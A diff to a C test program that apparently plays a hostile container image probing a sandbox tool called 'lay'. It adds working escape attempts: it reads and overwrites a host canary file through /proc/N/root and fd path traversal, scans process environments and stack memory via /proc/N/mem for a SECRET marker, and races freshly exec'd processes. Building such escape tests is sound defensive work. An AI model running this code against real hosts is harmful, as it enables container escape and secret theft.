@@ -1,39 +1,77 @@
 /* What a hostile image does to reach the host through a process of lay:
- *   escape hunt CANARY     for ever: says "hunting", then whatever it gets of the file CANARY of the host by
- *                          /proc/N/root, or of SECRET in an environment, of processes that it sees
+ *   escape hunt CANARY     for ever: says "hunting", then whatever it gets of the file CANARY of the host by /proc/N/root
+ *                          or a folder among the descriptors, or of SECRET in an environment or on a stack, of
+ *                          processes that it sees
  *   escape write OUT       until lay's program, which stands open at descriptor 9, is not busy any more: appends to it,
  *                          and writes to OUT what came of it
  * Static: gcc -static. */
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
+#include <signal.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/prctl.h>
 #include <unistd.h>
 
-static void look_at(long process, const char* canary) {
-  char path[512], text[4096];
-  snprintf(path, sizeof path, "/proc/%ld/root%s", process, canary);
-  int file = open(path, O_RDWR);
-  if (file >= 0) {
-    if (read(file, text, sizeof text) > 0) printf("read of %ld\n", process);
-    if (write(file, "owned\n", 6) == 6) printf("written through %ld\n", process);
-    close(file);
-  }
-  snprintf(path, sizeof path, "/proc/%ld/environ", process);
-  file = open(path, O_RDONLY);
+static char text[1 << 18];
+
+static void take_file(long process, const char* way, const char* canary) {
+  char path[512];
+  snprintf(path, sizeof path, "/proc/%ld/%s%s", process, way, canary);
+  const int file = open(path, O_RDWR);
   if (file < 0) return;
-  const ssize_t count = read(file, text, sizeof text);
-  if (count > 0 && memmem(text, (size_t)count, "SECRET", 6)) printf("secret of %ld\n", process);
+  if (read(file, text, sizeof text) > 0) printf("read of %ld by %s\n", process, way);
+  if (write(file, "owned\n", 6) == 6) printf("written through %ld by %s\n", process, way);
   close(file);
+}
+
+static void take_secret(long process, const char* name, off_t offset) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%ld/%s", process, name);
+  const int file = open(path, O_RDONLY);
+  if (file < 0) return;
+  const ssize_t count = pread(file, text, sizeof text, offset);
+  if (count > 0 && memmem(text, (size_t)count, "SECRET", 6)) printf("secret of %ld in %s\n", process, name);
+  close(file);
+}
+
+/* Where the environment lies. */
+static off_t top_of_stack(long process) {
+  char path[64], line[512];
+  unsigned long begin = 0, end = 0;
+  snprintf(path, sizeof path, "/proc/%ld/maps", process);
+  FILE* maps = fopen(path, "r");
+  if (maps == NULL) return 0;
+  while (fgets(line, sizeof line, maps) != NULL)
+    if (strstr(line, "[stack]") != NULL && sscanf(line, "%lx-%lx", &begin, &end) == 2) break;
+  fclose(maps);
+  return (off_t)(end - begin > sizeof text ? end - sizeof text : begin);
+}
+
+static void look_at(long process, const char* canary) {
+  char way[64];
+  take_file(process, "root", canary);
+  for (int fd = 3; fd < 40; ++fd) {
+    snprintf(way, sizeof way, "fd/%d/../../../../../../../..", fd);
+    take_file(process, way, canary);
+  }
+  take_secret(process, "environ", 0);
+  const off_t stack = top_of_stack(process);
+  if (stack != 0) take_secret(process, "mem", stack);
 }
 
 static int hunt(const char* canary) {
   puts("hunting");
-  for (;;)
-    for (long process = 2; process < 200; ++process)
+  /* What is new is looked for most of the time: a process that exec starts lives for a moment as something else. */
+  long known = getpid();
+  for (;;) {
+    for (long process = 2; process < known; ++process)
       if (process != getpid()) look_at(process, canary);
+    for (int looks = 0; looks < 2000; ++looks)
+      for (long process = known + 1; process < known + 3; ++process)
+        if (kill((pid_t)process, 0) == 0) look_at(known = process, canary);
+  }
 }
 
 static int write_to_program(const char* out) {
